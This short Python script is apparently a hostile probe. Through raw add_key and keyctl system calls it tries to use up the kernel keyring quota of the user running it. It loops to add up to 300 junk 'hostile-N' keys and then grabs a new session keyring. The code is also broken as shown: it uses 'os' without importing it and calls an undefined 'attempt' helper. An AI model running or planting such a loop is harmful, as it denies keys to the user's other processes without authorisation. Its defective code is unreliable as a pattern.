"""Takes all keys that its user may have."""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
LONG = ctypes.c_long


def call(x86, arm, *arguments):
    """Make a system call by its number on this machine."""
    number = x86 if os.uname().machine == "x86_64" else arm
    given = [value if isinstance(value, (bytes, ctypes.Array)) or value is None else LONG(value) for value in arguments]
    result = libc.syscall(LONG(number), *given)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


for number in range(300):
    name = f"hostile-{number}".encode()
    if attempt(call, 248, 217, b"user\0", name, b"x" * 60, 60, -2, won="take a user's keys") is None:
        break
attempt(call, 250, 219, 1, None, won="take a keyring")
